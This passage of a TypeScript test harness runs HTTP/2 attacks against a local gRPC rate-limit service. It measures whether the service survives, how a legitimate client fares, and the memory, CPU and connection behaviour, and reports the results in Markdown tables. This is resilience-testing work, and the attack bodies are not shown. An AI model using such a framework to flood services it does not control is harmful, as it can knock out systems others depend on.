  // alone may grow by ~190 MiB under an allocation-heavy attack, which users never run with.
  const child: ChildProcess = spawn(
    options.node ?? process.execPath,
    ["--max-semi-space-size=8", main],
    {
      env,
      stdio: ["ignore", "pipe", "pipe"],
    },
  );
  let out = "";
  const keep = (d: Buffer): void => {
    out += d.toString();
    if (out.length > 2 * outputTailChars) out = out.slice(-outputTailChars);
  };
  child.stdout?.on("data", keep);
  child.stderr?.on("data", keep);
  let exit: string | undefined;
  const exited = new Promise<void>((resolve) => {
    child.on("exit", (code, signal) => {
      exit = signal !== null ? `signal ${signal}` : `exit code ${code ?? -1}`;
      resolve();
    });
  });
  const pid = child.pid;
  if (pid === undefined) throw new Error(`could not start ${main}`);
  const target: SpawnedTarget = {
    port,
    pid,
    isRunning: () => exit === undefined,
    exitDescription: () => exit,
    output: () => out.slice(-outputTailChars),
    async stop() {
      if (exit === undefined) {
        child.kill("SIGTERM");
        const timer = setTimeout(() => child.kill("SIGKILL"), 3000);
        await exited;
        clearTimeout(timer);
      }
      rmSync(root, { recursive: true, force: true });
    },
  };
  const deadline = Date.now() + 30_000;
  for (;;) {
    if (exit !== undefined) {
      rmSync(root, { recursive: true, force: true });
      throw new Error(`service ended (${exit}) before answering:\n${out}`);
    }
    if ((await probeCall(port, 1000)) === "ok") return target;
    if (Date.now() > deadline) {
      await target.stop();
      throw new Error(
        `service did not answer ShouldRateLimit within 30 s:\n${out}`,
      );
    }
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A service already running on `port` (process `pid`, when known). */
export function attachedTarget(port: number, pid?: number): AttackTarget {
  return {
    port,
    pid,
    isRunning: () => pid === undefined || processRunning(pid),
    exitDescription: () =>
      pid !== undefined && !processRunning(pid) ? "not running" : undefined,
    output: () => "",
  };
}

function processRunning(pid: number): boolean {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, "latin1");
    const state = stat.slice(
      stat.lastIndexOf(")") + 2,
      stat.lastIndexOf(")") + 3,
    );
    return state !== "Z" && state !== "X";
  } catch {
    return false;
  }
}

/**
 * One ShouldRateLimit call on a new HTTP/2 connection: "ok" when it answered grpc-status 0
 * within `timeoutMs`, else what went wrong.
 */
export function probeCall(port: number, timeoutMs: number): Promise<string> {
  return new Promise((resolve) => {
    let done = false;
    const session = h2connect(`http://127.0.0.1:${port}`);
    const finish = (result: string): void => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      session.destroy();
      resolve(result);
    };
    const timer = setTimeout(() => {
      finish("timeout");
    }, timeoutMs);
    session.on("error", (err: NodeJS.ErrnoException) => {
      finish(`session error ${err.code ?? err.message}`);
    });
    let status: string | undefined;
    const stream = session.request({
      ":method": "POST",
      ":path": shouldRateLimitPath,
      "content-type": "application/grpc",
      te: "trailers",
    });
    stream.on("response", (h) => {
      const s = h["grpc-status"];
      if (s !== undefined) status = String(s);
    });
    stream.on("trailers", (t: IncomingHttpHeaders) => {
      const s = t["grpc-status"];
      if (s !== undefined) status = String(s);
    });
    stream.on("data", () => undefined);
    stream.on("error", (err: NodeJS.ErrnoException) => {
      finish(`stream error ${err.code ?? err.message}`);
    });
    stream.on("close", () => {
      finish(status === "0" ? "ok" : `grpc-status ${status ?? "none"}`);
    });
    stream.end(legitRequestBody);
  });
}

// ---- /proc ---------------------------------------------------------------------------------

/** Resident set size of `pid` in MiB (VmRSS), or undefined when unreadable. */
export function rssMiB(pid: number): number | undefined {
  try {
    const status = readFileSync(`/proc/${pid}/status`, "latin1");
    const m = /^VmRSS:\s+(\d+) kB/m.exec(status);
    return m?.[1] !== undefined ? Number(m[1]) / 1024 : undefined;
  } catch {
    return undefined;
  }
}

/** User + system CPU seconds of `pid` (/proc/<pid>/stat fields 14 and 15, USER_HZ 100). */
export function cpuSeconds(pid: number): number | undefined {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, "latin1");
    const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
    // fields[0] is field 3 (state): utime is field 14, stime field 15.
    return (Number(fields[11]) + Number(fields[12])) / 100;
  } catch {
    return undefined;
  }
}

// ---- the legitimate client -----------------------------------------------------------------

/** What the legitimate client saw. */
export interface LegitResult {
  readonly ok: number;
  readonly errors: number;
  /** Errors by kind (e.g. `timeout`, `grpc-status 14`). */
  readonly errorKinds: Record<string, number>;
  readonly p50Ms: number | undefined;
  readonly p99Ms: number | undefined;
  readonly maxMs: number | undefined;
  /** New connections it had to open after the first. */
  readonly reconnects: number;
}

// The legitimate client runs in its own process, so its timing does not depend on the
// attacker's event loop: node:http2, one connection (a new one only if that one ends), one
// call every 1000/rate ms whether or not earlier ones are done, each with a deadline. It
// prints "ready" after its first call succeeded, and its results as JSON once told "stop".
const legitClientSource = String.raw`
const http2 = require("node:http2");
const [port, rate, bodyB64, timeoutMs] = process.argv.slice(1);
const body = Buffer.from(bodyB64, "base64");
let session, reconnects = -1, ok = 0, errors = 0, inflight = 0, ticker, ready = false;
const kinds = {}, lat = [];
function fail(kind) { errors++; kinds[kind] = (kinds[kind] || 0) + 1; }
function connect() {
  reconnects++;
  session = http2.connect("http://127.0.0.1:" + port);
  session.on("error", () => {});
  // A GOAWAY to this connection is noted (kind only): the calls it fails count as errors.
  session.on("goaway", (code) => { kinds["goaway " + code] = (kinds["goaway " + code] || 0) + 1; });
}
function call(first) {
  if (!session || session.closed || session.destroyed) connect();
  const t0 = performance.now();
  let status, done = false, stream;
  inflight++;
  const finish = (kind) => {
    if (done) return;
    done = true; inflight--; clearTimeout(timer);
    if (kind === undefined) {
      if (first) { ready = true; process.stdout.write("ready\n"); return; }
      ok++; lat.push(performance.now() - t0);
    } else if (first) { setTimeout(() => call(true), 100); }
    else fail(kind);
  };
  const timer = setTimeout(() => { finish("timeout"); stream?.close(http2.constants.NGHTTP2_CANCEL); }, Number(timeoutMs));
  try {
    stream = session.request({ ":method": "POST", ":path": "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit", "content-type": "application/grpc", te: "trailers" });
  } catch (e) { finish("request " + (e.code || e.message)); return; }
  stream.on("response", (h) => { if (h["grpc-status"] !== undefined) status = String(h["grpc-status"]); });
  stream.on("trailers", (t) => { if (t["grpc-status"] !== undefined) status = String(t["grpc-status"]); });
  stream.on("data", () => {});
  stream.on("error", (e) => finish("stream error " + (e.code || e.message)));
  stream.on("close", () => finish(status === "0" ? undefined : status !== undefined ? "grpc-status " + status : "closed, rst " + stream.rstCode));
  stream.end(body);
}
function pct(sorted, p) { return sorted.length === 0 ? null : sorted[Math.max(0, Math.ceil(p * sorted.length) - 1)]; }
process.stdin.setEncoding("utf8");
process.stdin.on("data", (d) => {
  if (d.includes("go") && ticker === undefined) ticker = setInterval(() => call(false), 1000 / Number(rate));
  if (!d.includes("stop")) return;
  clearInterval(ticker);
  const started = performance.now();
  const wait = () => {
    if (inflight > 0 && performance.now() - started < Number(timeoutMs) + 500) { setTimeout(wait, 10); return; }
    const s = lat.sort((a, b) => a - b);
    process.stdout.write(JSON.stringify({ ok, errors, errorKinds: kinds, p50Ms: pct(s, 0.5), p99Ms: pct(s, 0.99), maxMs: s.length ? s[s.length - 1] : null, reconnects: Math.max(0, reconnects) }) + "\n");
    session?.destroy();
    process.exit(0);
  };
  wait();
});
call(true);
`;

/** A running legitimate client. */
interface LegitClient {
  start(): void;
  stop(): Promise<LegitResult>;
}

async function startLegitClient(
  port: number,
  rate: number,
  timeoutMs: number,
): Promise<LegitClient> {
  const child = spawn(
    process.execPath,
    [
      "-e",
      legitClientSource,
      String(port),
      String(rate),
      legitRequestBody.toString("base64"),
      String(timeoutMs),
    ],
    { stdio: ["pipe", "pipe", "inherit"] },
  );
  child.stdin.on("error", () => undefined);
  let out = "";
  child.stdout.setEncoding("utf8");
  const lines: string[] = [];
  let wake: (() => void) | undefined;
  child.stdout.on("data", (d: string) => {
    out += d;
    let nl: number;
    while ((nl = out.indexOf("\n")) >= 0) {
      lines.push(out.slice(0, nl));
      out = out.slice(nl + 1);
    }
    wake?.();
  });
  let ended = false;
  child.on("exit", () => {
    ended = true;
    wake?.();
  });
  const nextLine = async (ms: number): Promise<string | undefined> => {
    const deadline = Date.now() + ms;
    while (lines.length === 0 && !ended && Date.now() < deadline)
      await new Promise<void>((resolve) => {
        const timer = setTimeout(resolve, deadline - Date.now());
        wake = () => {
          clearTimeout(timer);
          resolve();
        };
      });
    return lines.shift();
  };
  if ((await nextLine(15_000)) !== "ready") {
    child.kill("SIGKILL");
    throw new Error(
      "the legitimate client's first call did not succeed within 15 s",
    );
  }
  return {
    start() {
      child.stdin.write("go\n");
    },
    async stop() {
      child.stdin.write("stop\n");
      const line = await nextLine(timeoutMs + 5000);
      child.kill("SIGKILL");
      if (line === undefined)
        throw new Error("the legitimate client gave no results");
      const r = JSON.parse(line) as {
        ok: number;
        errors: number;
        errorKinds: Record<string, number>;
        p50Ms: number | null;
        p99Ms: number | null;
        maxMs: number | null;
        reconnects: number;
      };
      return {
        ok: r.ok,
        errors: r.errors,
        errorKinds: r.errorKinds,
        p50Ms: r.p50Ms ?? undefined,
        p99Ms: r.p99Ms ?? undefined,
        maxMs: r.maxMs ?? undefined,
        reconnects: r.reconnects,
      };
    },
  };
}

// ---- running an attack ---------------------------------------------------------------------

/** What one attack did. */
export interface AttackResult {
  readonly attack: string;
  /** Engine label (`builtin`, `node`, or what the caller passed). */
  readonly engine: string;
  /** How long the attack ran, in ms. */
  readonly durationMs: number;
  /** The process still ran after the attack. */
  readonly alive: boolean;
  /** A new connection got an OK ShouldRateLimit answer after the attack ("ok"), or what failed. */
  readonly probe: string;
  /** Alive and answering. */
  readonly survived: boolean;
  /** How the process ended, when it did; with the tail of its output. */
  readonly exit: string | undefined;
  readonly legit: LegitResult;
  /** RSS before the attack, the highest during it, and the difference, in MiB. */
  readonly rssStartMiB: number | undefined;
  readonly rssMaxMiB: number | undefined;
  readonly rssGrowthMiB: number | undefined;
  /** CPU seconds the service process used during the attack. */
  readonly cpuSeconds: number | undefined;
  /** Attacking connections opened, closed by the server, and still open at the end. */
  readonly connectionsOpened: number;
  readonly connectionsClosedByServer: number;
  readonly connectionsOpenAtEnd: number;
  /** Time from opening to the server's close, per connection the server closed, in ms. */
  readonly closeTimesMs: readonly number[];
  /** GOAWAY error codes received, by name (one per connection at most). */
  readonly goaways: Record<string, number>;
  readonly framesSent: number;
  readonly bytesSent: number;
  /** Frames received and RST_STREAM codes received, by name. */
  readonly received: Record<string, number>;
  readonly resets: Record<string, number>;
  readonly notes: readonly string[];
}

/** How to run an attack. */
export interface RunOptions {
  /** Engine label for the result. */
  readonly engine: string;
  /** Longest time the attack runs, in ms. */
  readonly durationMs: number;
  /**
   * When set, the attack ends early, once this much time has passed and the server has
   * closed an attacking connection (for attacks that end when all are closed: all of them).
   */
  readonly minDurationMs?: number;
  /** Legitimate calls per second. @defaultValue 100 */
  readonly legitRate?: number;
  /** Deadline of each legitimate call, in ms. @defaultValue 2000 */
  readonly legitTimeoutMs?: number;
  /** Deadline of the call after the attack, in ms. @defaultValue 10,000 */
  readonly probeTimeoutMs?: number;
}

/** Runs `attack` against `target` with a legitimate client beside it, and measures. */
export async function runAttack(
  target: AttackTarget,
  attack: Attack,
  options: RunOptions,
): Promise<AttackResult> {
  const pid = target.pid;
  const legit = await startLegitClient(
    target.port,
    options.legitRate ?? 100,
    options.legitTimeoutMs ?? 2000,
  );
  const stats = new AttackStats();
  const notes: string[] = [];
  const rssStart = pid !== undefined ? rssMiB(pid) : undefined;
  let rssMax = rssStart;
  const sample = (): void => {
    if (pid === undefined) return;
    const rss = rssMiB(pid);
    if (rss !== undefined && (rssMax === undefined || rss > rssMax))
      rssMax = rss;
  };
  const sampler = setInterval(sample, 100);
  const cpuStart = pid !== undefined ? cpuSeconds(pid) : undefined;
  const started = performance.now();
  const until = started + options.durationMs;
  const earliest = started + (options.minDurationMs ?? options.durationMs);
  const conns = stats.connections;
  const running = (): boolean => {
    const now = performance.now();
    if (now >= until || !target.isRunning()) return false;
    if (now < earliest) return true;
    return attack.endsWhenAllClosed === true
      ? conns.length === 0 || conns.some((c) => !c.closedByServer)
      : !conns.some((c) => c.closedByServer);
  };
  legit.start();
  try {
    await attack.run({
      port: target.port,
      stats,
      running,
      open: (mode) => AttackConnection.open(target.port, stats, mode),
      note: (text) => {
        if (!notes.includes(text)) notes.push(text);
      },
    });
  } catch (err) {
    notes.push(`the attack failed: ${String(err)}`);
  }
  const durationMs = performance.now() - started;
  sample();
  clearInterval(sampler);
  const cpuEnd = pid !== undefined ? cpuSeconds(pid) : undefined;
  const openAtEnd = conns.filter((c) => c.alive).length;
  for (const c of conns) c.close();
  const legitResult = await legit.stop();
  const alive = target.isRunning();
  const probe = alive
    ? await probeCall(target.port, options.probeTimeoutMs ?? 10_000)
    : "not running";
  const alive2 = target.isRunning();
  const closed = conns.filter((c) => c.closedByServer);
  const goaways: Record<string, number> = {};
  for (const c of conns)
    if (c.goawayCode !== undefined) {
      const name = errorName(c.goawayCode);
      goaways[name] = (goaways[name] ?? 0) + 1;
    }
  for (const reason of stats.goawayReasons)
    notes.push(`GOAWAY debug data: ${JSON.stringify(reason)}`);
  const exit = target.exitDescription();
  return {
    attack: attack.name,
    engine: options.engine,
    durationMs,
    alive: alive2,
    probe,
    survived: alive2 && probe === "ok",
    exit:
      exit === undefined
        ? undefined
        : `${exit}; last output:\n${target.output().split("\n").slice(-30).join("\n")}`,
    legit: legitResult,
    rssStartMiB: rssStart,
    rssMaxMiB: rssMax,
    rssGrowthMiB:
      rssStart !== undefined && rssMax !== undefined
        ? rssMax - rssStart
        : undefined,
    cpuSeconds:
      cpuStart !== undefined && cpuEnd !== undefined
        ? cpuEnd - cpuStart
        : undefined,
    connectionsOpened: conns.length,
    connectionsClosedByServer: closed.length,
    connectionsOpenAtEnd: openAtEnd,
    closeTimesMs: closed.map((c) => (c.closedByServerAt ?? 0) - c.openedAt),
    goaways,
    framesSent: stats.framesSent,
    bytesSent: stats.bytesSent,
    received: Object.fromEntries(stats.received),
    resets: Object.fromEntries(stats.resets),
    notes,
  };
}

// ---- reporting -----------------------------------------------------------------------------

/** The slowest close by the server, in ms; undefined when the server closed none. */
export function slowestCloseMs(r: AttackResult): number | undefined {
  return r.closeTimesMs.length === 0 ? undefined : Math.max(...r.closeTimesMs);
}

function fixed(n: number | undefined, digits: number): string {
  return n === undefined ? "n/a" : n.toFixed(digits);
}

function count(n: number): string {
  return n >= 10_000_000
    ? `${(n / 1e6).toFixed(0)} M`
    : n >= 10_000
      ? `${(n / 1e3).toFixed(0)} k`
      : String(n);
}

/** "closed after" cell: the slowest server close, "never", and connections left open. */
export function closedAfterCell(r: AttackResult): string {
  const slowest = slowestCloseMs(r);
  const head = slowest === undefined ? "never" : (slowest / 1000).toFixed(2);
  return r.connectionsOpenAtEnd > 0 && slowest !== undefined
    ? `${head} (${r.connectionsOpenAtEnd} open at end)`
    : head;
}

/** A Markdown table of results, one row per attack and engine. */
export function markdownTable(results: readonly AttackResult[]): string {
  const rows = [
    "| attack | engine | survived | legit ok / errors | legit p99 ms | RSS growth MiB | attacker closed after s | conns closed / opened | GOAWAY | attacker frames / MiB | service CPU s |",
    "| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |",
  ];
  for (const r of results) {
    const survived = r.survived
      ? "yes"
      : r.alive
        ? `no (${r.probe})`
        : `**no: ${r.exit?.split(";")[0] ?? "died"}**`;
    rows.push(
      `| ${r.attack} | ${r.engine} | ${survived} | ${r.legit.ok} / ${r.legit.errors} | ${fixed(r.legit.p99Ms, 1)} | ${fixed(r.rssGrowthMiB, 1)} | ${closedAfterCell(r)} | ${r.connectionsClosedByServer} / ${r.connectionsOpened} | ${
        Object.entries(r.goaways)
          .map(([k, v]) => `${k}×${v}`)
          .join(" ") || "none"
      } | ${count(r.framesSent)} / ${(r.bytesSent / 1048576).toFixed(1)} | ${fixed(r.cpuSeconds, 2)} |`,
    );
  }
  return rows.join("\n");
}

/** Notes, errors and crashes of results, as Markdown list items. */
export function resultNotes(results: readonly AttackResult[]): string {
  const lines: string[] = [];
  for (const r of results) {
    const items = [...r.notes];
    if (r.legit.errors > 0)
      items.push(`legitimate errors: ${JSON.stringify(r.legit.errorKinds)}`);
    if (Object.keys(r.resets).length > 0)
      items.push(`RST_STREAM received: ${JSON.stringify(r.resets)}`);
    if (r.exit !== undefined) items.push(`process ended: ${r.exit}`);
    if (items.length > 0)
      lines.push(`- ${r.attack} (${r.engine}): ${items.join("; ")}`);
  }
  return lines.join("\n");
}
